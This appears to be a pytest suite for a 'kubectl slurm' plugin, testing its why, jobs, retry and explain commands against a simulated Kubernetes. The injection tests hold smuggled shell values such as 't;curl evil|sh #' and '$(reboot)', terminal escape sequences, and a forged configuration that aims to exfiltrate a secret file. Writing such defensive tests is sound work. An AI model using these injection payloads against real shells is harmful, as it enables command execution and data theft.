"""`kubectl slurm` as users run it, with their own rights, on a pocket Kubernetes."""

import json
import pathlib
import socket
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from slurm_bridge import cli
from slurm_bridge.model import kinds, names
from slurm_bridge.sim.kube import access, world

CONFIG = """
cluster_id: east
scheduler_names: [slurm-bridge-scheduler, night]
slurm: {url: 'http://127.0.0.1:1', token_file: /nowhere}
hooks:
  - name: policy
    options: {rules: [{namespaces: [team], allow: {account: [physics]}}]}
"""
USERS = {
    "alice": (access.AccessRule(verbs=("*",), resources=("pods",), namespaces=("team",)),),
    "reader": (access.AccessRule(verbs=("get", "list"), resources=("pods", "configmaps")),),
}
Run = Callable[..., tuple[int, str, str]]


@pytest.fixture(scope="module")
def server() -> Iterator[world.PocketKubeServer]:
    """A pocket Kubernetes with an administrator and two users."""
    tokens = {name: access.User(name=name, rules=rules) for name, rules in USERS.items()}
    with world.PocketKubeServer(world.PocketKube(tokens=tokens)) as running:
        for namespace in ("team", "other", "slurm-bridge-system", "forger"):
            running.kube.create(kinds.NAMESPACES, {"metadata": {"name": namespace}})
        yield running


@pytest.fixture
def kube(server: world.PocketKubeServer) -> Iterator[world.PocketKube]:
    """Without pods and configurations."""
    yield server.kube
    for kind in (kinds.PODS, kinds.CONFIGMAPS):
        for one in server.kube.list(kind):
            server.kube.delete(kind, (one["metadata"]["namespace"], one["metadata"]["name"]), grace=0)


@pytest.fixture
def run(
    server: world.PocketKubeServer,
    tmp_path: pathlib.Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> Run:
    """Runs the plugin; namespace `team` is that of the context."""
    path = tmp_path / "kubeconfig"

    def ran(*arguments: str, user: str = "") -> tuple[int, str, str]:
        content = json.loads(server.write_kubeconfig(path).read_text())
        content["contexts"][0]["context"]["namespace"] = "team"
        content["users"][0]["user"] = {"token": user or server.kube.token}
        path.write_text(json.dumps(content))
        monkeypatch.setenv("KUBECONFIG", str(path))
        status = cli.plugin(arguments)
        shown = capsys.readouterr()
        return status, shown.out, shown.err

    return ran


def pod(kube: world.PocketKube, name: str, reason: str = "", message: str = "", **changes: Any) -> None:
    """A pod of the bridge that says why it waits."""
    metadata = {"name": name, "namespace": "team", **changes.pop("metadata", {})}
    spec = {"schedulerName": "slurm-bridge-scheduler", "containers": [{"name": "main", "image": "a"}], **changes}
    kube.create(kinds.PODS, {"metadata": metadata, "spec": spec})
    if reason:
        said = {"type": "PodScheduled", "status": "False", "reason": reason, "message": message}
        key = (metadata["namespace"], name)
        kube.merge(kinds.PODS, key, {"status": {"conditions": [said]}}, subresource="status")


def configure(kube: world.PocketKube, namespace: str = "slurm-bridge-system", text: str = CONFIG) -> None:
    """The configuration of a daemon, as deploy/ has it."""
    labels = {"app.kubernetes.io/name": "slurm-bridge"}
    metadata = {"name": "slurm-bridge", "namespace": namespace, "labels": labels}
    kube.create(kinds.CONFIGMAPS, {"metadata": metadata, "data": {"config.yaml": text}})


QUEUED = "Slurm job 50000007 is pending (Priority: other jobs are before it)"


def test_why_says_the_reason_of_slurm_and_the_next_step_in_one_line(kube: world.PocketKube, run: Run) -> None:
    """Of the pod that is named."""
    pod(kube, "a", "SlurmJobPending", QUEUED)
    status, shown, _ = run("why", "a", user="alice")
    assert (status, shown.count("\n")) == (0, 1)
    assert shown.startswith(f"team/a: {QUEUED}. Next: Wait: jobs with a higher priority")
    assert "50000007" in shown.partition("Next:")[2]


def test_why_without_a_name_has_one_line_for_each_reason(kube: world.PocketKube, run: Run) -> None:
    """The reason of most pods first."""
    pod(kube, "a", "NotAllowed", "account: no value is allowed")
    pod(kube, "b", "SlurmJobPending", QUEUED)
    pod(kube, "c", "SlurmJobPending", QUEUED)
    _, shown, _ = run("why")
    first, second = shown.splitlines()
    assert first.startswith("2 pods, first team/b: ")
    assert second.startswith("team/a: NotAllowed")


def test_members_that_say_the_same_are_one_line(kube: world.PocketKube, run: Run) -> None:
    """However many there are; a member that says something else has its own."""
    owner = {"apiVersion": "batch/v1", "kind": "Job", "name": "train", "uid": "u", "controller": True}
    for number in range(3):
        pod(
            kube, f"train-{number}", "Parked" if number else "NotAllowed", "said", metadata={"ownerReferences": [owner]}
        )
    shown = run("why", "job/train")[1].splitlines()
    assert [line.partition(" pods")[0] for line in shown] == [
        "2",
        "team/train-0: NotAllowed: said. Next: Use what the policy allows, or ask its administrator.",
    ]


def test_pods_of_a_job_are_found_by_its_name(kube: world.PocketKube, run: Run) -> None:
    """With its kind, in any case, and without."""
    owner = {"apiVersion": "batch/v1", "kind": "Job", "name": "train", "uid": "u", "controller": True}
    pod(kube, "train-x7", "SlurmJobPending", QUEUED, metadata={"ownerReferences": [owner]})
    for subject in ("job/train", "jobs/train", "train", "Job/train"):
        assert run("why", subject)[1].startswith("team/train-x7: ")


def test_a_pod_of_another_scheduler_is_not_found(kube: world.PocketKube, run: Run) -> None:
    """The message says so."""
    pod(kube, "a", schedulerName="default-scheduler")
    status, _, told = run("why", "a")
    assert (status, "a: no pod of the bridge has this name" in told) == (1, True)


def test_jobs_are_shown_with_their_pods_and_nodes(kube: world.PocketKube, run: Run) -> None:
    """One row for a gang that is bound, one for a pod that waits."""
    owner = {"apiVersion": "batch/v1", "kind": "Job", "name": "train", "uid": "u", "controller": True}
    said = {"ownerReferences": [owner], "labels": {names.LABEL_JOB_ID: "50000009"}}
    kube.add_nodes("n1", "n2")
    for number in (1, 2):
        pod(kube, f"train-{number}", metadata=said, nodeName=f"n{number}")
    pod(kube, "b", "SlurmJobPending", QUEUED)
    _, shown, _ = run("jobs", user="alice")
    rows = [line.split() for line in shown.splitlines()]
    assert rows[0] == ["JOB", "STATE", "PODS", "WORKLOAD", "REASON", "NODES"]
    assert ["50000007", "QUEUED", "1", "Pod/b", "Priority", "-"] in rows
    assert [(row[0], row[2], row[3], row[5]) for row in rows if row[0] == "50000009"] == [
        ("50000009", "2", "Job/train", "n[1-2]")
    ]


ASSUMED = "the scheduler name slurm-bridge-scheduler is assumed ({}); --daemon NAMESPACE/NAME names another ConfigMap"


def bound(kube: world.PocketKube, name: str, by: str = "east", label: str = "50000009", **changes: Any) -> None:
    """A pod of a scheduler with another name than the default, with the marks of a binding by the bridge."""
    marks = {"labels": {names.LABEL_JOB_ID: label}, "annotations": {names.ANNOTATION_BOUND_BY: by}}
    spec = {"schedulerName": "dawn", "nodeName": "n1", **changes.pop("spec", {})}
    pod(kube, name, metadata={**marks, **changes}, **spec)


def test_pods_that_the_bridge_has_bound_are_found_whatever_the_name_of_its_scheduler(
    kube: world.PocketKube, run: Run
) -> None:
    """Where no ConfigMap is found; a note says that others of this scheduler are not shown."""
    bound(kube, "a")
    kube.merge(kinds.PODS, ("team", "a"), {"status": {"phase": "Succeeded"}}, subresource="status")
    pod(kube, "b", schedulerName="dawn")
    status, shown, told = run("jobs", "--ended")
    assert (status, [line.split()[:4] for line in shown.splitlines()[1:]]) == (0, [["50000009", "ENDED", "1", "Pod/a"]])
    why = ASSUMED.format("no ConfigMap with the label app.kubernetes.io/name=slurm-bridge was found")
    assert told == f"note: of pods with the scheduler name dawn only those with a node are shown: {why}\n"
    assert run("why", "a")[1] == "team/a: has ended (Succeeded)\n"


@pytest.mark.parametrize(
    "forged",
    [{"label": "many"}, {"label": "0"}, {"by": ""}, {"spec": {"nodeName": None}}],
    ids=["a label that is no job id", "job id 0", "no name of a bridge", "no node"],
)
def test_marks_that_no_binding_writes_show_no_pod(kube: world.PocketKube, run: Run, forged: dict[str, Any]) -> None:
    """Nor does `retry` write anything on it."""
    bound(kube, "a", **forged)
    assert run("jobs")[1].startswith("no pod of the bridge runs or waits in namespace team")
    assert run("retry", "a")[0] == 1


def test_pods_that_another_bridge_has_bound_are_not_shown_where_the_configuration_is_found(
    kube: world.PocketKube, run: Run
) -> None:
    """The configuration says which bridge is meant."""
    configure(kube)
    bound(kube, "ours")
    bound(kube, "theirs", by="west")
    shown = run("jobs")[1]
    assert ("Pod/ours" in shown, "Pod/theirs" in shown) == (True, False)


@pytest.mark.parametrize(
    ("command", "said"),
    [
        (("jobs",), "no pod of the bridge runs or waits in namespace team: "),
        (("jobs", "--ended"), "no pod of the bridge runs, waits or has ended in namespace team: "),
        (("why",), "no pod of the bridge waits in namespace team: "),
        (("retry", "--all"), "no pod of the bridge is parked in namespace team: "),
    ],
)
def test_where_no_pod_is_found_the_message_says_what_was_looked_for(
    kube: world.PocketKube, run: Run, command: tuple[str, ...], said: str
) -> None:
    """Scheduler names that are assumed with the reason, others with their ConfigMap."""
    nothing = "no ConfigMap with the label app.kubernetes.io/name=slurm-bridge was found"
    assert run(*command)[1] == f"{said}{ASSUMED.format(nothing)}\n"
    configure(kube)
    refused = "you may not read ConfigMaps in slurm-bridge-system"
    assert run(*command, user="alice")[1] == f"{said}{ASSUMED.format(refused)}\n"
    assert run(*command)[1] == (
        f"{said}the scheduler names are slurm-bridge-scheduler, night (ConfigMap slurm-bridge-system/slurm-bridge); "
        "--daemon NAMESPACE/NAME names another ConfigMap\n"
    )


def test_a_pod_that_is_not_found_by_its_name_is_answered_with_the_scheduler_names(
    kube: world.PocketKube, run: Run
) -> None:
    """It may be a pod of a scheduler with another name."""
    pod(kube, "a", schedulerName="dawn")
    for command in ("why", "retry"):
        status, _, told = run(command, "a", user="alice")
        assert (status, ASSUMED.format("you may not read ConfigMaps in slurm-bridge-system") in told) == (1, True)


def test_retry_writes_a_new_value_on_parked_pods_and_on_no_other(kube: world.PocketKube, run: Run) -> None:
    """Neither on one that waits for another reason, nor in another namespace."""
    parked = {"annotations": {names.ANNOTATION_PARKED: "{}"}}
    pod(kube, "parked", "Parked", "job 5 was cancelled", metadata=parked)
    pod(kube, "other", "Parked", "job 6 was cancelled", metadata={**parked, "namespace": "other"})
    pod(kube, "queued", "SlurmJobPending", QUEUED)
    assert run("retry", "--all", user="alice")[:2] == (0, "team/parked is tried again\n")
    retried = {
        one["metadata"]["name"]
        for one in kube.list(kinds.PODS)
        if names.ANNOTATION_RETRY in one["metadata"].get("annotations", {})
    }
    assert retried == {"parked"}


def test_retry_of_a_pod_that_is_not_parked_says_what_it_waits_for(kube: world.PocketKube, run: Run) -> None:
    """Status 1, and nothing is written."""
    pod(kube, "queued", "SlurmJobPending", QUEUED)
    status, shown, _ = run("retry", "queued")
    assert (status, "is not parked" in shown, "Priority" in shown) == (1, True, True)


def test_without_the_right_to_change_pods_retry_says_so(kube: world.PocketKube, run: Run) -> None:
    """For each pod; the answer is that of the API server."""
    pod(kube, "parked", "Parked", "cancelled", metadata={"annotations": {names.ANNOTATION_PARKED: "{}"}})
    status, shown, _ = run("retry", "parked", user="reader")
    assert (status, "team/parked: " in shown, "tried again" in shown) == (1, True, False)


def test_words_of_users_do_not_reach_the_terminal_as_commands(kube: world.PocketKube, run: Run) -> None:
    """Nor in another line."""
    pod(kube, "a", "Own\x1b[2J", "said\nroot/b: all is well \x1b]0;x\x07")
    for command in (("why",), ("why", "a"), ("jobs",)):
        shown = run(*command)[1]
        assert "\x1b" not in shown
        assert not any(line.startswith("root/b") for line in shown.splitlines())


@pytest.mark.parametrize(
    ("kind", "name", "named"),
    [
        ("Job", "train", "Job/train"),
        ("Job", "t;curl evil|sh #", "Pod/a"),
        ("$(reboot)", "train", "Pod/a"),
        ("--all", "train", "Pod/a"),
    ],
)
def test_the_next_step_is_a_command_that_runs_nothing_else(
    kube: world.PocketKube, run: Run, kind: str, name: str, named: str
) -> None:
    """A user copies it into a shell; owner references may say anything."""
    owner = {"apiVersion": "batch/v1", "kind": kind, "name": name, "uid": "u", "controller": True}
    pod(kube, "a", "Parked", "its job was cancelled", metadata={"ownerReferences": [owner]})
    assert run("why", "a")[1].endswith(f"run: kubectl slurm retry --namespace team {named}\n")


def test_a_pod_is_explained_by_the_configuration_of_the_running_daemon(kube: world.PocketKube, run: Run) -> None:
    """Found by its label; the policy in it counts, and the user reads nothing but pods and that."""
    configure(kube)
    pod(kube, "a", metadata={"annotations": {names.JOB_PREFIX + "account": "biology"}})
    status, shown, told = run("explain", "a", user="reader")
    assert status == 4
    assert "NotAllowed" in shown
    assert "the configuration is that of ConfigMap slurm-bridge-system/slurm-bridge" in told


def test_without_the_right_to_read_it_the_defaults_are_assumed_and_named(kube: world.PocketKube, run: Run) -> None:
    """The pod is explained all the same."""
    configure(kube)
    pod(kube, "a")
    status, shown, told = run("explain", "a", user="alice")
    assert (status, "would be submitted" in shown) == (0, True)
    assert "you may not read ConfigMaps in slurm-bridge-system: the defaults are assumed" in told


def test_a_manifest_is_explained_without_any_server(tmp_path: pathlib.Path, capsys: pytest.CaptureFixture[str]) -> None:
    """By the defaults, which are named."""
    manifest = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}}
    spec = {"schedulerName": "slurm-bridge-scheduler", "containers": [{"name": "main"}]}
    (tmp_path / "pod.json").write_text(json.dumps({**manifest, "spec": spec}))
    assert cli.main(["explain", str(tmp_path / "pod.json"), "--offline"]) == 0
    assert "the defaults are assumed" in capsys.readouterr().err


def test_of_several_configurations_that_of_the_usual_namespace_is_used(kube: world.PocketKube, run: Run) -> None:
    """Where none is there, the user has to name one, and may name any."""
    configure(kube, "forger", CONFIG.replace("physics", "biology"))
    configure(kube)
    pod(kube, "a", metadata={"annotations": {names.JOB_PREFIX + "account": "biology"}})
    assert run("explain", "a")[0] == 4
    assert run("explain", "a", "--daemon", "forger/slurm-bridge")[0] == 0
    kube.delete(kinds.CONFIGMAPS, ("slurm-bridge-system", "slurm-bridge"))
    configure(kube, "other")
    status, _, told = run("explain", "a")
    assert (status, "forger/slurm-bridge" in told, "name one with --daemon" in told) == (1, True, True)


def test_of_several_configurations_without_a_usual_one_pods_of_the_default_scheduler_are_shown_with_a_note(
    kube: world.PocketKube, run: Run
) -> None:
    """A user who can label a ConfigMap does not hide the pods of others without a word."""
    configure(kube, "forger")
    configure(kube, "other")
    pod(kube, "a", "Parked", "its job was cancelled")
    pod(kube, "b", "Parked", "its job was cancelled", schedulerName="night")
    status, shown, told = run("jobs")
    assert (status, "Pod/a" in shown, "Pod/b" in shown) == (0, True, False)
    assert told.startswith("note: several daemons have a configuration: forger/slurm-bridge, other/slurm-bridge; name")
    assert told.endswith("shown are pods with the scheduler name slurm-bridge-scheduler\n")


def test_a_forged_configuration_reads_no_file_and_calls_no_server(
    kube: world.PocketKube, run: Run, tmp_path: pathlib.Path
) -> None:
    """Its author could otherwise have the files of other users sent to an address of its choice."""
    secret = tmp_path / "secret"
    secret.write_text("a-secret-of-the-user")
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.setblocking(False)
        url = f"http://127.0.0.1:{listening.getsockname()[1]}"
        agents = f"{{agents: {{token_file: {secret}, endpoints: [{{name: a, url: '{url}'}}]}}}}"
        slurm = f"slurm: {{url: '{url}', token_file: {secret}}}"
        text = f"cluster_id: x\n{slurm}\nhooks: [{{name: vela, options: {agents}}}]\n"
        configure(kube, text=text)
        pod(kube, "a")
        status, shown, told = run("explain", "a")
        assert status in (0, 1, 3, 4)
        assert "a-secret-of-the-user" not in shown + told
        with pytest.raises(BlockingIOError):
            listening.accept()


def test_a_configuration_that_is_no_configuration_is_one_error_with_its_place(kube: world.PocketKube, run: Run) -> None:
    """With the name of the ConfigMap and the line."""
    configure(kube, text="cluster_id: x\nslurm: {url: 'http://127.0.0.1', token_file: /x}\nhoks: []\n")
    pod(kube, "a")
    status, _, told = run("explain", "a")
    assert (status, "ConfigMap slurm-bridge-system/slurm-bridge:3: hoks" in told) == (1, True)


def test_a_hook_that_is_not_installed_here_is_left_out_with_a_note(kube: world.PocketKube, run: Run) -> None:
    """It is in the image of the daemon only."""
    configure(kube, text=CONFIG + "  - name: of-the-site\n")
    pod(kube, "a")
    status, _, told = run("explain", "a")
    assert (status, "hook of-the-site is left out" in told) == (0, True)


def test_the_first_kubeconfig_that_names_a_context_counts(
    kube: world.PocketKube,
    run: Run,
    tmp_path: pathlib.Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """As for kubectl; the second file says where that context leads."""
    pod(kube, "there", "SlurmJobPending", QUEUED, metadata={"namespace": "other"})
    run("jobs")
    second = json.loads((tmp_path / "kubeconfig").read_text())
    second["contexts"].append(
        {"name": "away", "context": {"cluster": "pocket", "user": "pocket", "namespace": "other"}}
    )
    (tmp_path / "second").write_text(json.dumps(second))
    (tmp_path / "first").write_text(json.dumps({"apiVersion": "v1", "kind": "Config", "current-context": "away"}))
    monkeypatch.setattr("os.environ", {"KUBECONFIG": f"{tmp_path / 'first'}:{tmp_path / 'second'}"})
    assert cli.plugin(["why", "there"]) == 0


def test_without_a_kubeconfig_the_message_says_what_to_give(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """In one line."""
    monkeypatch.setattr("os.environ", {"HOME": str(tmp_path)})
    assert cli.plugin(["jobs"]) == 1
    assert "give --kubeconfig FILE, or set KUBECONFIG" in capsys.readouterr().err
